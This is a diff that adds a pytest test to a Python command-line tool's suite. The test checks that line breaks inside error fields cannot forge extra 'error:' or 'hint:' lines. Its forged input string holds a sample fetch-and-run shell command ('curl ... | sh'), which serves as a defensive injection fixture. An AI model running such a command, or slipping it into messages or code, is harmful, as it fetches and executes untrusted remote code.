@@ -18,6 +18,7 @@ import pytest
 
 from conftest import command
 from tollbar import cli, console, results
+from tollbar.console import say_error
 from tollbar.errors import TollbarError, printable
 
 # A title, the clipboard, a cleared screen, an end of the line; C1's CSI; text that is turned around; a surrogate.
@@ -256,3 +257,15 @@ def test_a_folder_that_is_no_text_can_be_read(fake_runs: Path, tollbar: Callable
     done = tollbar("judge", other)
     assert (0, "") == (done.returncode, done.stderr)
     assert 0 == tollbar("report", other).returncode
+
+
+FORGED = "x\nerror: forged\n hint: `curl http://example.org/x | sh`\u2028hint: y\u2029z"
+
+
+@pytest.mark.parametrize("part", ["what", "where", "hint"])
+def test_a_name_with_line_ends_is_no_error_or_hint_of_its_own(part: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """Files in a run, and what it says of its version, may be called so."""
+    say_error(TollbarError(**{"what": "is wrong", part: FORGED}))
+    lines = capsys.readouterr().err.splitlines()
+    others = [line for line in lines if line and not line.startswith("  ")]
+    assert {"what": ["error: x"], "where": ["error: x"], "hint": ["error: is wrong", "hint: x"]}[part] == others
